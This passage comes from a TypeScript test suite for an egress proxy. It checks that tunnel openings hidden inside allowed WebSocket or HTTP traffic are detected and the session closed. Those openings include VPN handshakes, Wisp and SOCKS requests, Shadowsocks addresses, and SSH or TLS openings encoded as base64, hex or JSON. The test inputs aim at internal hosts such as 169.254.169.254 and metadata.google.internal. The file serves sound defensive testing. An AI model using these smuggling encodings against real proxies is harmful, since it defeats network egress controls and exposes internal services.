    fc.constantFrom(0x38, 0x50), fc.constantFrom('plain', 'crypt', '16', '20', '28', '32', '48', '64'), fc.constantFrom(0, 0x0f), fc.boolean(),
    fc.array(fc.nat(), { maxLength: 4 }), fc.boolean(), fc.array(fc.constantFrom('hello', '{"op":1}'), { maxLength: 2 }),
    (opcode, layout, pid, tcp, cuts, emptyFirst, before) => {
      const packet = reset(opcode, layout, layout === 'plain' ? 0 : pid);
      if (tcp) {
        const stream = Buffer.concat([Buffer.from([packet.length >> 8, packet.length & 0xff]), packet, Buffer.from([packet.length >> 8, packet.length & 0xff]), packet]);
        const { found, points } = scanCut(stream, cuts, emptyFirst);
        if (found !== 'an OpenVPN session') throw new Error(`TCP ${stream.subarray(0, 40).toString('hex')} cut at ${points.join(',')}: ${found}`);
      } else {
        const scan = new InnerSessionScan();
        const found = [...before.map((b) => Buffer.from(b)), packet].map((d) => scan.read(d)).find(Boolean);
        if (found !== 'an OpenVPN session') throw new Error(`UDP ${packet.toString('hex')} after ${before.length}: ${found}`);
      }
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: text beginning with the opcodes' letters (`8`, `P`), a DNS query, STUN, a binary
  // message starting 0x38 without OpenVPN's layout, a PostgreSQL startup, a MongoDB OP_MSG.
  for (const d of ['8 apples, 0 pears, 0 plums', 'PING 12345678', 'P', Buffer.from('12340100000100000000000007616c6c6f776564076578616d706c650000010001', 'hex'),
    Buffer.from('000100002112a442', 'hex'), Buffer.concat([Buffer.from([0x38]), crypto.randomBytes(8), Buffer.from([1, 2, 3, 4, 5])]),
    Buffer.from('0000000800030000', 'hex'), opMsg({ find: 'c', filter: {}, $db: 'd' }),
    // A zip's local header with no date, stored: opcode 0x50 and the empty layout's zeros, but no random session id.
    Buffer.from('504b030414000000000000000000bcbf2bce180000001800', 'hex')]) {
    const b = Buffer.isBuffer(d) ? d : Buffer.from(d);
    t.equal(new InnerSessionScan().read(b), undefined, b.subarray(0, 16).toString('hex'));
  }

  // Live: a real OpenVPN client (UDP and TCP) through a bridge, its packets sent as messages.
  const openvpn = ['/usr/sbin/openvpn', '/usr/bin/openvpn'].find((p) => fs.existsSync(p));
  if (!openvpn) {
    t.fail('openvpn not found (apt-get install openvpn; .ci/run does)');
    return;
  }
  const dir = tempDir(t, 'hunt23-tunnels-openvpn-');
  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', path.join(dir, 'k.pem'), '-out', path.join(dir, 'c.pem'), '-days', '2', '-subj', '/CN=c'], { stdio: 'ignore' });
  execFileSync(openvpn, ['--genkey', 'secret', path.join(dir, 'ta.key')], { stdio: 'ignore' });
  const got: Buffer[] = [];
  const bridge = await startWsUpstream(t, { onConnection: (ws) => ws.on('message', (d: Buffer) => got.push(d)) });
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  for (const [proto, extra] of [['udp', []], ['tcp', ['--tls-auth', path.join(dir, 'ta.key'), '1']], ['udp', ['--tls-crypt', path.join(dir, 'ta.key')]]] as Array<['udp' | 'tcp', string[]]>) {
    got.length = 0;
    const sent: Buffer[] = [];
    const code = await new Promise<number>((resolve) => {
      const ws = new WebSocket(`ws://allowed.example:${bridge.port}/${proto}`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
      const forward = (m: Buffer): void => { sent.push(m); if (ws.readyState === WebSocket.OPEN) ws.send(m, { binary: true }); };
      ws.on('open', () => {
        let port: number;
        if (proto === 'udp') {
          const front = dgram.createSocket('udp4');
          front.on('message', forward);
          front.bind(0, '127.0.0.1', () => { port = front.address().port; start(); });
          t.teardown(() => front.close());
        } else {
          const front = net.createServer((s) => { s.on('data', forward); s.on('error', () => undefined); });
          front.listen(0, '127.0.0.1', () => { port = (front.address() as net.AddressInfo).port; start(); });
          t.teardown(() => front.close());
        }
        const start = (): void => {
          const client = spawn(openvpn, ['--client', '--dev', 'null', '--proto', proto === 'udp' ? 'udp' : 'tcp-client', '--remote', '127.0.0.1', String(port), '--ca', path.join(dir, 'c.pem'),
            '--cert', path.join(dir, 'c.pem'), '--key', path.join(dir, 'k.pem'), '--verb', '0', '--connect-retry-max', '1', ...extra], { stdio: 'ignore' });
          t.teardown(() => void client.kill());
          ws.once('close', () => client.kill());
        };
      });
      ws.on('close', (c) => resolve(c));
      ws.on('error', () => resolve(-1));
      setTimeout(() => { ws.terminate(); resolve(0); }, 8000).unref();
    });
    t.equal(code, 1008, `${proto} ${extra[0] ?? ''}: the tunnel is closed at OpenVPN's first packet`);
    t.ok(sent.length > 0 && (sent[0]![proto === 'tcp' ? 2 : 0] === 0x38), `${proto}: OpenVPN sent its hard reset`);
    await new Promise((res) => setTimeout(res, 100));
    t.same(got, [], `${proto}: the service behind the bridge got nothing`);
  }
});

t.test('twenty-third pass: IP packets, IKE, L2TP, PPTP, Nebula, libp2p and Tailscale openings inside a WebSocket tunnel are never relayed', (t) => {
  // A TUN bridge (each message an IP packet: a VPN of its own, every connection inside undecided),
  // IPsec's IKE, L2TP and Nebula through a UDP bridge, and at a stream's start libp2p's
  // multistream-select (`/noise` next: js-libp2p over WebSockets), IKE over TCP, PPTP and
  // Tailscale's ts2021 Noise initiation.
  const checksum = (h: Buffer): number => {
    let sum = 0;
    for (let i = 0; i < h.length; i += 2) sum += h.readUInt16BE(i);
    while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
    return ~sum & 0xffff;
  };
  const ipv4 = (ihl: number, proto: number, payload: Buffer, seedBytes: Buffer): Buffer => {
    const h = Buffer.alloc(ihl * 4);
    seedBytes.copy(h, 0, 0, Math.min(seedBytes.length, h.length));
    h[0] = 0x40 | ihl;
    h.writeUInt16BE(h.length + payload.length, 2);
    h[9] = proto;
    h.writeUInt16BE(0, 10);
    h.writeUInt16BE(checksum(h), 10);
    return Buffer.concat([h, payload]);
  };
  const ipv6 = (next: number, payload: Buffer): Buffer => {
    const h = crypto.randomBytes(40);
    h[0] = 0x60 | (h[0]! & 0x0f);
    h.writeUInt16BE(payload.length, 4);
    h[6] = next;
    h[7] = 64;
    return Buffer.concat([h, payload]);
  };
  const ike = (v2: boolean, exchange: number, natT: boolean, body: Buffer): Buffer => {
    const h = Buffer.alloc(28);
    crypto.randomBytes(8).copy(h, 0);
    h[16] = v2 ? 33 : 1;
    h[17] = v2 ? 0x20 : 0x10;
    h[18] = exchange;
    h[19] = v2 ? 0x08 : 0;
    h.writeUInt32BE(28 + body.length, 24);
    return Buffer.concat([natT ? Buffer.alloc(4) : Buffer.alloc(0), h, body]);
  };
  const l2tp = (version: number, avps: Buffer): Buffer => {
    const b = Buffer.concat([Buffer.from([0xc8, version, 0, 0]), Buffer.from('00000000000000008008000000000001', 'hex'), avps]);
    b.writeUInt16BE(b.length, 2);
    return b;
  };
  const datagram = fc.oneof(
    fc.tuple(fc.integer({ min: 5, max: 15 }), fc.constantFrom(1, 6, 17, 47), fc.uint8Array({ maxLength: 1400 }), fc.uint8Array({ minLength: 60, maxLength: 60 }))
      .map(([ihl, proto, p, s]) => ['an IP packet', ipv4(ihl, proto, Buffer.from(p), Buffer.from(s))] as const),
    fc.tuple(fc.constantFrom(6, 17, 58, 0, 44), fc.uint8Array({ maxLength: 1400 })).map(([n, p]) => ['an IP packet', ipv6(n, Buffer.from(p))] as const),
    fc.tuple(fc.constantFrom<[boolean, number]>([true, 34], [false, 2], [false, 4]), fc.boolean(), fc.uint8Array({ maxLength: 600 }))
      .map(([[v2, x], nat, body]) => ['an IKE session', ike(v2, x, nat, Buffer.from(body))] as const),
    fc.tuple(fc.constantFrom(2, 3), fc.uint8Array({ maxLength: 80 })).map(([v, a]) => ['an L2TP session', l2tp(v, Buffer.from(a))] as const),
    fc.uint8Array({ minLength: 1, maxLength: 200 }).map((p) => ['a Nebula handshake', Buffer.concat([Buffer.from('10000000000000000000000000000001', 'hex'), Buffer.from(p)])] as const),
  );
  fc.assert(fc.property(datagram, fc.array(fc.constantFrom('hello', '{"op":1}'), { maxLength: 2 }), ([name, d], before) => {
    const scan = new InnerSessionScan();
    const found = [...before.map((b) => Buffer.from(b)), d].map((m) => scan.read(m)).find(Boolean);
    // (An IKE initiator's random SPI starting 0x38 or 0x50 before the responder's zero SPI is laid out as OpenVPN's reset too: refused either way.)
    if (found !== name && !(name === 'an IKE session' && found === 'an OpenVPN session' && (d[0] === 0x38 || d[0] === 0x50))) throw new Error(`${d.subarray(0, 32).toString('hex')} after ${before.length}: ${found}`);
  }), { numRuns: numRuns * 4, ...seed });
  const ts2021 = Buffer.concat([Buffer.from([0, 106, 1, 0, 0x60]), crypto.randomBytes(96)]);
  fc.assert(fc.property(
    fc.constantFrom(Buffer.from('\x13/multistream/1.0.0\n\x07/noise\n', 'latin1'), Buffer.from('\x13/multistream/1.0.0\n\x0b/tls/1.0.0\n', 'latin1'), Buffer.from('IKETCP\x00\x00\x00\x00', 'latin1'),
      Buffer.concat([Buffer.from('009c00011a2b3c4d00010000', 'hex'), Buffer.alloc(144)]), ts2021),
    fc.array(fc.nat(), { maxLength: 4 }), fc.boolean(),
    (stream, cuts, emptyFirst) => {
      const { found, points } = scanCut(stream, cuts, emptyFirst);
      if (!found) throw new Error(`${stream.subarray(0, 24).toString('hex')} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 2, ...seed });
  // Controls: an IPv4-shaped datagram whose checksum is wrong, text starting with E or `, a
  // PostgreSQL Execute + Sync, a DNS query, STUN, chat naming multistream, a libp2p line after the start.
  const bad = ipv4(5, 6, Buffer.alloc(20, 1), Buffer.alloc(60, 7));
  bad[10] = bad[10]! ^ 1;
  for (const msgs of [[bad], [Buffer.from('Everything is fine, thanks for asking')], [Buffer.from('`code` sample')], [Buffer.from('450000000900000000000053000000040000000000', 'hex')],
    [Buffer.from('12340100000100000000000007616c6c6f776564076578616d706c650000010001', 'hex')], [Buffer.from('000100002112a442', 'hex')],
    [Buffer.from('what is /multistream/1.0.0?')], [Buffer.from('hello\n'), Buffer.from('\x13/multistream/1.0.0\n', 'latin1')], [Buffer.from('0000000800030000', 'hex')]]) {
    const scan = new InnerSessionScan();
    t.equal(msgs.map((m) => scan.read(m)).find(Boolean), undefined, msgs.map((m) => m.subarray(0, 16).toString('hex')).join(' '));
  }
  t.end();
});

t.test('twenty-third pass: a Wisp proxy\'s CONNECT inside a WebSocket tunnel is never relayed, at any message', async (t) => {
  // Wisp (a multiplexing WebSocket proxy: browser web proxies, v86, libcurl.js) opens a stream to
  // whatever host and port a CONNECT packet names, at any message of the socket: every service the
  // server reaches, behind an upgrade decided by the Wisp server's URL.
  const connect = (stream: number, type: number, port: number, host: string): Buffer => {
    const b = Buffer.alloc(8 + Buffer.byteLength(host));
    b[0] = 0x01;
    b.writeUInt32LE(stream, 1);
    b[5] = type;
    b.writeUInt16LE(port, 6);
    b.write(host, 8, 'latin1');
    return b;
  };
  const data = (stream: number, payload: string): Buffer => Buffer.concat([Buffer.from([0x02, stream & 0xff, (stream >> 8) & 0xff, (stream >> 16) & 0xff, stream >>> 24]), Buffer.from(payload)]);
  fc.assert(fc.property(
    fc.integer({ min: 1, max: 0xffffffff }), fc.constantFrom(1, 2), fc.integer({ min: 1, max: 65535 }),
    fc.constantFrom('admin.example', '127.0.0.1', '[::1]', '::1', 'db', 'metadata.google.internal', '169.254.169.254'), fc.nat({ max: 3 }),
    (stream, type, port, host, before) => {
      const scan = new InnerSessionScan();
      const msgs = [...Array.from({ length: before }, (_, i) => data(i + 1, `GET / HTTP/1.0 ${i}`.slice(0, 4))), connect(stream, type, port, host)];
      const found = msgs.map((m) => scan.read(m)).find(Boolean);
      if (found !== 'a Wisp proxy request') throw new Error(`${host}:${port} after ${before}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: a DATA packet, a stream 0 packet, a CLOSE, a binary message of type 1 holding no host name.
  for (const d of [data(1, 'hello'), connect(0, 1, 80, 'x.example'), Buffer.from([0x04, 1, 0, 0, 0, 0x02]), Buffer.concat([Buffer.from([1, 1, 0, 0, 0, 1, 80, 0]), Buffer.from([0, 1, 2, 255])])]) {
    // After a DATA packet: at the stream's very start such bytes are also gost's relay request.
    const scan = new InnerSessionScan();
    t.equal([data(2, 'hi'), d].map((m) => scan.read(m)).find(Boolean), undefined, d.toString('hex'));
  }
  // Live: a Wisp server (CONTINUE on stream 0 at open, a CONNECT dialled) behind an allowed upgrade.
  const dialled: string[] = [];
  const admin = net.createServer((s) => { dialled.push('admin'); s.end(); });
  await new Promise<void>((r) => admin.listen(0, '127.0.0.1', r));
  t.teardown(() => admin.close());
  const wisp = await startWsUpstream(t, {
    onConnection: (ws) => {
      ws.send(Buffer.from([0x03, 0, 0, 0, 0, 0x80, 0, 0, 0]));
      ws.on('message', (d: Buffer) => {
        if (d[0] !== 0x01) return;
        const s = net.connect(d.readUInt16LE(6), d.subarray(8).toString('latin1'));
        s.on('error', () => undefined);
      });
    },
  });
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${wisp.port}`] });
  const r = await bridgeSession(wisp, a.proxyUrl, 'allowed.example', [connect(7, 1, (admin.address() as net.AddressInfo).port, '127.0.0.1')], 'latin1');
  t.equal(r.code, 1008, 'the tunnel is closed at the CONNECT');
  await new Promise((res) => setTimeout(res, 150));
  t.same(dialled, [], 'the Wisp server never dialled the service');
});

t.test('twenty-third pass: a stream\'s start after a bridge\'s own JSON header is read as the start (proxy requests, VPNs, HTTP/0.9)', async (t) => {
  // A bridge that takes a first JSON message as its own (`{"connect": "db:5432"}`, text or binary)
  // and pipes the rest: the stream the service reads starts at the next message, where a SOCKS
  // request, OpenVPN, gost's relay or an HTTP/0.9 line went on (the readings had ended at the JSON).
  const socks = Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, 13]), Buffer.from('admin.example'), Buffer.from([0, 22])]);
  const openvpn = Buffer.concat([Buffer.from([0, 14, 0x38]), crypto.randomBytes(8), Buffer.alloc(5)]);
  const starts: Array<[string, Buffer]> = [['a SOCKS request', socks], ['an OpenVPN session', openvpn], ['an HTTP request', Buffer.from('GET deny/secret.txt\n')],
    ['a PROXY protocol header', Buffer.from('PROXY TCP4 127.0.0.1 127.0.0.1 40000 22\r\n')], ['a VPN or encrypted transport', Buffer.from('\x13/multistream/1.0.0\n', 'latin1')]];
  fc.assert(fc.property(
    fc.constantFrom(...starts), fc.array(fc.constantFrom('{"connect": "db:5432"}', ' [1, 2]', '{"token": "x"}\n'), { minLength: 1, maxLength: 3 }), fc.array(fc.nat(), { maxLength: 3 }),
    ([name, stream], headers, cuts) => {
      const scan = new InnerSessionScan();
      const before = headers.map((h) => scan.read(Buffer.from(h))).find(Boolean);
      if (before) throw new Error(`the header ${JSON.stringify(headers)} was refused: ${before}`);
      const points = [...new Set(cuts.map((c) => c % stream.length))].sort((a, b) => a - b);
      let at = 0;
      let found: string | undefined;
      for (const p of [...points, stream.length]) {
        found ??= scan.read(stream.subarray(at, p));
        at = p;
      }
      // (A piece cut so that it is a whole Wisp CONNECT by itself is refused as one.)
      if (found !== name && found !== 'a Wisp proxy request') throw new Error(`${name} after ${JSON.stringify(headers)} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: JSON messages after a first message that is not JSON, and chat after the JSON.
  for (const msgs of [['hello', '{"a":1}', '\x05\x01\x00'], ['{"type":"hello"}', 'how are you?'], ['{"a":1}', '{"b":2}']]) {
    const scan = new InnerSessionScan();
    t.equal(msgs.map((m) => scan.read(Buffer.from(m, 'latin1'))).find(Boolean), undefined, JSON.stringify(msgs));
  }
  // Live: such a bridge in front of a SOCKS 5 server that dials what it is asked.
  const dialled: string[] = [];
  const socksServer = net.createServer((s) => {
    s.on('error', () => undefined);
    s.once('data', () => {
      s.write(Buffer.from([5, 0]));
      s.once('data', (d: Buffer) => { dialled.push(d.subarray(5, 5 + d[4]!).toString('latin1')); s.end(); });
    });
  });
  await new Promise<void>((r) => socksServer.listen(0, '127.0.0.1', r));
  t.teardown(() => socksServer.close());
  const bridge = await startWsUpstream(t, {
    onConnection: (ws) => {
      let s: net.Socket | undefined;
      ws.on('message', (d: Buffer) => {
        if (!s) {
          const { connect } = JSON.parse(d.toString()) as { connect: string };
          s = net.connect(Number(connect.split(':')[1]), '127.0.0.1');
          s.on('data', (x) => ws.send(x, { binary: true }));
          s.on('error', () => ws.terminate());
          ws.send(Buffer.from('ok'));
          return;
        }
        s.write(d);
      });
      ws.on('close', () => s?.end());
    },
  });
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const r = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from(JSON.stringify({ connect: `db:${(socksServer.address() as net.AddressInfo).port}` })), Buffer.from([5, 1, 0]), socks.subarray(3)], 'latin1');
  t.equal(r.code, 1008, 'the tunnel is closed at the SOCKS greeting after the header');
  await new Promise((res) => setTimeout(res, 100));
  t.same(dialled, [], 'the SOCKS server behind the bridge was never asked for admin.example');
});

t.test('twenty-third pass: a Shadowsocks request without a cipher at a tunnel\'s start is never relayed', async (t) => {
  // Shadowsocks's `none`/`plain` method (shadowsocks-rust, sing-box, gost's `ss`): the stream
  // opens with SOCKS 5's address alone (type 3, a length, the host, the port) and its server dials it.
  const request = (host: string, port: number, payload: string): Buffer => Buffer.concat([Buffer.from([3, host.length]), Buffer.from(host), Buffer.from([port >> 8, port & 0xff]), Buffer.from(payload)]);
  fc.assert(fc.property(
    fc.constantFrom('admin.example', 'db.internal', 'localhost', '169.254.169.254', 'metadata.google.internal'), fc.integer({ min: 1, max: 65535 }), fc.constantFrom('', 'GET / HTTP/1.1\r\n\r\n', '\x16\x03\x01'),
    fc.array(fc.nat(), { maxLength: 3 }), fc.boolean(), fc.array(fc.constantFrom('{"connect": "ss:8388"}'), { maxLength: 1 }),
    (host, port, payload, cuts, emptyFirst, headers) => {
      const stream = request(host, port, payload);
      const scan = new InnerSessionScan();
      let found = [...(emptyFirst ? [''] : []), ...headers].map((h) => scan.read(Buffer.from(h))).find(Boolean);
      const points = [...new Set(cuts.map((c) => c % stream.length))].sort((a, b) => a - b);
      let at = 0;
      for (const p of [...points, stream.length]) {
        found ??= scan.read(stream.subarray(at, p));
        at = p;
      }
      if (found !== 'a Shadowsocks request (no cipher)') throw new Error(`${host}:${port} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: a message starting 0x03 with no host after it, a one-label name (a game's shard), port 0, text.
  for (const d of [Buffer.from([3, 1, 2, 3, 4, 5, 6]), request('eu1', 443, 'x'), request('a.example', 0, ''), Buffer.from('\x03hello there')]) {
    t.equal(new InnerSessionScan().read(d), undefined, d.toString('hex'));
  }
  // Live: such a server behind a bridge, dialling what the address names.
  const asked: string[] = [];
  const bridge = await startWsUpstream(t, {
    onConnection: (ws) => ws.on('message', (d: Buffer) => { if (d[0] === 3) asked.push(d.subarray(2, 2 + d[1]!).toString('latin1')); }),
  });
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const r = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [request('admin.example', 22, 'SSH')], 'latin1');
  t.equal(r.code, 1008, 'the tunnel is closed at the address');
  await new Promise((res) => setTimeout(res, 100));
  t.same(asked, [], 'the server behind the bridge never read an address');
});

t.test('twenty-third pass: a TLS hello or SSH identification in base64, bare or in a JSON envelope, closes the tunnel', async (t) => {
  // Left open by the twenty-second pass: a bridge's own framing — a JSON envelope holding base64
  // (`{"data": "FgMB…"}`) or a bare base64 text — that it decodes before writing to its service.
  const hellos = [await clientHello({ servername: 'x.example' }), await clientHello({ maxVersion: 'TLSv1.2' }), await clientHello({ minVersion: 'TLSv1.3' })];
  const ssh = Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n');
  fc.assert(fc.property(
    fc.constantFrom(...hellos.map((h) => ['a TLS handshake (in base64)', h] as const), ['an SSH session (in base64)', ssh] as const), fc.constantFrom<BufferEncoding>('base64', 'base64url'),
    fc.constantFrom('bare', 'data', 'list', 'blank', 'second'), fc.array(fc.constantFrom('hello', '{"op":"open"}'), { maxLength: 2 }),
    ([name, bytes], enc, framing, before) => {
      const b64 = bytes.toString(enc);
      const msg = { bare: b64, data: JSON.stringify({ type: 'data', data: b64 }), list: JSON.stringify(['data', b64]), blank: `\n ${b64}`, second: JSON.stringify({ id: 'c1', payload: b64 }) }[framing];
      const scan = new InnerSessionScan();
      const found = [...before, msg].map((m) => scan.read(Buffer.from(m))).find(Boolean);
      if (found !== name) throw new Error(`${framing} ${enc} after ${JSON.stringify(before)}: ${found}`);
    },
  ), { numRuns: numRuns * 2, ...seed });
  // Controls: chat, other base64 in a JSON envelope (an image, a word), the letters in a sentence.
  for (const m of ['hello', JSON.stringify({ data: Buffer.from('hello world').toString('base64') }), JSON.stringify({ img: 'iVBORw0KGgoAAAANSUhEUgAA' }), 'the code is xFgMBq', JSON.stringify({ note: 'say U1N' })]) {
    t.equal(new InnerSessionScan().read(Buffer.from(m)), undefined, m);
  }
  // Live: a bridge that decodes `{"data": <base64>}` and writes the bytes to its service.
  const got: Buffer[] = [];
  const bridge = await startWsUpstream(t, { handleProtocols: (p) => [...p][0] ?? false, onConnection: (ws) => ws.on('message', (d: Buffer) => {
    try {
      // (Twenty-fifth pass: a socket.io relay's `42["data", <string>]` writes the string itself, as Node's socket.write does.)
      if (d.toString('latin1').startsWith('42[')) got.push(Buffer.from((JSON.parse(d.toString().slice(2)) as [string, string])[1]));
      else {
        // (Twenty-ninth pass: `Buffer.from(msg.data)` of a list or Node's Buffer JSON, as a relay writes it.)
        const data = (JSON.parse(d.toString()) as { data: string | number[] | { data: number[] } }).data;
        got.push(typeof data === 'string' ? Buffer.from(data, 'base64') : Buffer.from(Array.isArray(data) ? data : data.data));
      }
    } catch {
      // (A hex text's bytes, twenty-ninth pass.)
      got.push(/^(?:[0-9a-f]{2})+$/i.test(d.toString('latin1')) ? Buffer.from(d.toString('latin1'), 'hex') : d);
    }
  }) });
  // Twenty-ninth pass: a GET long-poll tunnel server that takes each piece from the path's last segment, a cookie or its own header.
  const carried: Buffer[] = [];
  const getTunnel = http.createServer((req, res) => {
    const segment = decodeURIComponent(req.url!.split('?')[0]!.split('/').pop()!);
    const cookie = /(?:^|;\s*)d=([^;]*)/.exec(req.headers.cookie ?? '')?.[1];
    const header = req.headers['x-data'];
    for (const v of [segment, cookie, typeof header === 'string' ? header : undefined]) if (v && v !== 'poll' && /^[A-Za-z0-9_-]{2,}$/.test(v)) carried.push(Buffer.from(v, 'base64url'));
    res.end('ok');
  });
  await new Promise<void>((r) => getTunnel.listen(0, '127.0.0.1', r));
  t.teardown(() => getTunnel.close());
  const gp = (getTunnel.address() as net.AddressInfo).port;
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`, `127.0.0.1:${gp}`] });
  const r = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from(JSON.stringify({ data: hellos[0]!.toString('base64') }))], 'latin1');
  t.equal(r.code, 1008, 'the tunnel is closed at the encoded hello');
  // Twenty-fifth pass: an SSH line and a SOCKS greeting as the JSON string of a socket.io event
  // (escaped: `\r\n`, `\u0005`). Fails without describe/tunnel-inner.ts `escapedStrings`: the relay wrote both.
  for (const opening of ['SSH-2.0-OpenSSH_9.2p1\r\n', '\x05\x01\x00']) {
    const s = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from(`42${JSON.stringify(['data', opening])}`)], 'latin1');
    t.equal(s.code, 1008, `the tunnel is closed at ${JSON.stringify(opening)} in a socket.io event`);
  }
  await new Promise((res) => setTimeout(res, 100));
  t.same(got, [], 'the bridge decoded nothing for its service');

  // Twenty-fourth pass: Kubernetes' channel subprotocols (`kubectl port-forward`/`exec` over a
  // WebSocket): each message's first byte (or base64 form's first character) names a channel, each
  // channel a stream; a SOCKS request or an SSH line behind it went on. Fails without
  // proxy/tunnel-sql.ts `channelRead`: the bridge got every message.
  const host = Buffer.from('admin.example');
  const socks = [Buffer.from([0, 5, 1, 0]), Buffer.concat([Buffer.from([0, 5, 1, 0, 3, host.length]), host, Buffer.from([0, 22])])];
  const k8s = (protocol: string, msgs: Array<Buffer | string>): Promise<number> => new Promise((resolve, reject) => {
    const ws = new WebSocket(`ws://allowed.example:${bridge.port}/api/v1/namespaces/default/pods/p/portforward?ports=1080`, [protocol], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    ws.on('open', () => { for (const m of msgs) ws.send(m); setTimeout(() => ws.close(1000), 300); });
    ws.on('close', (code) => resolve(code));
    ws.on('error', reject);
    setTimeout(() => ws.terminate(), 8000).unref();
  });
  for (const [protocol, msgs] of [['v4.channel.k8s.io', socks], ['portforward.k8s.io', socks], ['v4.channel.k8s.io', [Buffer.from('\x00SSH-2.0-OpenSSH_9.2\r\n', 'latin1')]],
    ['base64.channel.k8s.io', socks.map((m) => `0${m.subarray(1).toString('base64')}`)]] as const) {
    got.length = 0;
    t.equal(await k8s(protocol, [...msgs]), 1008, `${protocol}: the stream behind the channel byte is read`);
    t.ok(got.length < msgs.length, `${protocol}: the bridge did not get the opening whole`);
  }
  // Control: exec's stdin carrying a shell's words, a resize on channel 4.
  got.length = 0;
  t.equal(await k8s('v4.channel.k8s.io', [Buffer.from('\x00ls -la\n', 'latin1'), Buffer.from('\x04{"Width":80,"Height":24}', 'latin1')]), 1000, 'exec\'s stdin and a resize go on');
  t.equal(got.length, 2, 'both reached the bridge');

  // Twenty-ninth pass (live): an opening as a list of byte numbers (Node's Buffer JSON, a list) or
  // in hex, to a bridge that writes `Buffer.from(msg.data)` or the hex text's bytes; and a GET
  // long-poll tunnel's pieces in a path, a cookie or a header. Fails without the twenty-ninth
  // pass's readings: every opening reached the service (no close, 200).
  const host29 = Buffer.from('admin.example');
  const socks29 = Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, host29.length]), host29, Buffer.from([0, 22])]);
  const ssh29 = Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n');
  for (const [what, opening, msg] of [
    ['a SOCKS request as Node Buffer JSON', socks29, JSON.stringify({ data: socks29 })],
    ['an SSH line as a list', ssh29, JSON.stringify({ data: [...ssh29] })],
    ['a TLS hello as a list', hellos[0]!, JSON.stringify({ data: [...hellos[0]!] })],
    ['a SOCKS request in hex', socks29, socks29.toString('hex')],
  ] as const) {
    got.length = 0;
    const r29 = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from(msg)], 'latin1');
    t.equal(r29.code, 1008, `${what}: the tunnel is closed`);
    t.notOk(Buffer.concat(got).includes(opening), `${what}: the bridge never wrote it to its service`);
  }
  got.length = 0;
  const ok29 = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from(JSON.stringify({ data: [5, 1, 0] }))], 'latin1');
  t.not(ok29.code, 1008, 'a small list of numbers goes on');
  const get = async (pathname: string, headers: string[] = []): Promise<string> => (await curl(['-s', '-o', '/dev/null', '-w', '%{http_code}', '-x', a.proxyUrl, ...headers.flatMap((h) => ['-H', h]), `http://allowed.example:${gp}${pathname}`])).stdout;
  const b64 = (b: Buffer): string => b.toString('base64url');
  t.equal(await get(`/poll/${b64(socks29)}`), '403', 'a SOCKS request in a GET\'s path is refused');
  t.equal(await get('/poll', [`Cookie: sid=1; d=${b64(ssh29)}`]), '403', 'an SSH line in a cookie is refused');
  t.equal(await get('/poll', [`X-Data: ${b64(hellos[0]!)}`]), '403', 'a TLS hello in a header of the tunnel\'s own is refused');
  t.equal(await get(`/poll/${b64(ssh29.subarray(0, 6))}`), '200', 'an SSH line\'s first piece in a path goes on (nothing yet)');
  t.equal(await get(`/poll/${b64(ssh29.subarray(6))}`), '403', 'and the next GET completing it is refused');
  t.notOk(carried.some((c) => c.includes(socks29) || c.includes(ssh29) || c.includes(hellos[0]!.subarray(0, 64))), 'the tunnel server never got an opening whole');
  t.equal(await get('/static/app.3f2a9c1b.js', [`Cookie: sid=${crypto.randomBytes(16).toString('hex')}`, `X-Request-Id: ${crypto.randomUUID()}`]), '200', 'an asset with a session goes on');
  t.equal(await get(`/objects/${crypto.randomBytes(12).toString('base64url')}`, [`X-Amz-Content-Sha256: ${crypto.createHash('sha256').update('').digest('hex')}`]), '200', 'an object by id goes on');
});

t.test('twenty-fifth pass: an opening written into a JSON string with escapes (SockJS, socket.io, engine.io, a data envelope) closes the tunnel', (t) => {
  // A relay whose envelope carries text writes the decoded string: `\r\n` and `\u0016` are the
  // bytes of the opening there, letters to the raw readings (the twenty-fourth pass read base64 only).
  const host = Buffer.from('admin.example');
  const hello = Buffer.from('16030100c4010000c00303' + '00'.repeat(32) + '00', 'hex');
  const openings: Array<[RegExp, Buffer, boolean]> = [
    [/^an SSH session/, Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n'), false], [/^an SSH session/, Buffer.from('SSH-2.0-PuTTY_Release_0.80\n'), false],
